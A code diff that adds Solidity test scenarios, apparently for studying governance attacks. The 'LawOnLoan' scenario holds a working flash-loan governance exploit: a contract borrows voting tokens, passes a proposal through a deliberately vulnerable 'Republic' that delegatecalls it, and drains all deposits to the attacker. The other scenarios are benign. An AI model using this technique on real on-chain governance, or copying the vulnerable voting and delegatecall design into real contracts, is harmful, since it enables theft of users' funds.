@@ -156,3 +156,127 @@ contract GrantPaid is Assembly {
         actor = address(new Executor(governor));
     }
 }
+
+/// Keeps everybody's deposits, and runs as its own code what two thirds have voted for, at once when
+/// there is an emergency.
+contract Republic {
+    Coin public immutable votes;
+    Coin public immutable coin;
+    mapping(uint256 => address) public laws;
+    mapping(uint256 => uint256) public ayes;
+    uint256 public count;
+
+    constructor(Coin votes_, Coin coin_) {
+        (votes, coin) = (votes_, coin_);
+    }
+
+    function propose(address law) external returns (uint256 id) {
+        id = count++;
+        laws[id] = law;
+    }
+
+    function castVote(uint256 id, bool) external {
+        ayes[id] += votes.balanceOf(msg.sender);
+    }
+
+    function emergencyCommit(uint256 id) external {
+        require(ayes[id] * 3 >= votes.totalSupply() * 2, "not enough");
+        (bool done,) = laws[id].delegatecall(abi.encodeWithSignature("init()"));
+        require(done, "failed");
+    }
+}
+
+/// A law by which all deposits are its maker's.
+contract Law {
+    Coin immutable coin;
+    address immutable maker;
+
+    constructor(Coin coin_) {
+        (coin, maker) = (coin_, msg.sender);
+    }
+
+    function init() external {
+        coin.transfer(maker, coin.balanceOf(address(this)));
+    }
+}
+
+contract Lawmaker is Flash {
+    Republic immutable republic;
+    Lender immutable lender;
+
+    constructor(Republic republic_, Lender lender_) {
+        (republic, lender) = (republic_, lender_);
+    }
+
+    function run() external payable {
+        Coin votes = republic.votes();
+        lender.flashLoan(this, votes, votes.balanceOf(address(lender)), "");
+        Coin coin = republic.coin();
+        coin.transfer(tx.origin, coin.balanceOf(address(this)));
+    }
+
+    function borrowed(uint256) internal override {
+        uint256 id = republic.propose(address(new Law(republic.coin())));
+        republic.castVote(id, true);
+        republic.emergencyCommit(id);
+    }
+}
+
+contract LawOnLoan is Scene {
+    constructor() payable {
+        Coin votes = new Coin("SEED");
+        Coin coin = new Coin("USD");
+        Republic republic = new Republic(votes, coin);
+        coin.mint(address(republic), 500 ether);
+        votes.mint(address(0xA11CE), 50 ether);
+        Lender lender = new Lender();
+        votes.mint(address(lender), 200 ether);
+        actor = address(new Lawmaker(republic, lender));
+    }
+}
+
+/// Proposes a grant to somebody, and is the first to vote for it.
+contract ProposalMade is Assembly {
+    constructor() payable {
+        (Governor governor, Coin votes) = assemble();
+        address[] memory targets = new address[](1);
+        bytes[] memory data = new bytes[](1);
+        targets[0] = address(0x6EA7);
+        Script script = new Script();
+        votes.mint(address(script), 10 ether);
+        script.then(
+            address(governor),
+            abi.encodeCall(governor.propose, (targets, new uint256[](1), new string[](1), data, "a grant"))
+        );
+        script.then(address(governor), abi.encodeCall(governor.castVote, (1, 1)));
+        actor = address(script);
+    }
+}
+
+/// Pays whoever carries out what was decided.
+contract PayingGovernor is Governor {
+    constructor(Coin coin_) Governor(coin_, 0) {}
+
+    function reward(uint256 id) external {
+        require(proposals[id].done, "not done");
+        coin.transfer(msg.sender, 1 ether);
+    }
+}
+
+contract ExecutorPaid is Scene {
+    constructor() payable {
+        Coin votes = new Coin("VOTE");
+        PayingGovernor governor = new PayingGovernor(votes);
+        votes.mint(address(governor), 10 ether);
+        votes.mint(address(this), 200 ether);
+        address[] memory targets = new address[](1);
+        bytes[] memory data = new bytes[](1);
+        (targets[0], data[0]) = (address(votes), abi.encodeCall(Coin.transfer, (address(0x6EA7), 5 ether)));
+        governor.propose(targets, new uint256[](1), new string[](1), data, "");
+        governor.castVote(0, 1);
+        Script script = new Script();
+        script.then(address(governor), abi.encodeCall(governor.execute, (0)));
+        script.then(address(governor), abi.encodeCall(governor.reward, (0)));
+        actor = address(script);
+    }
+}
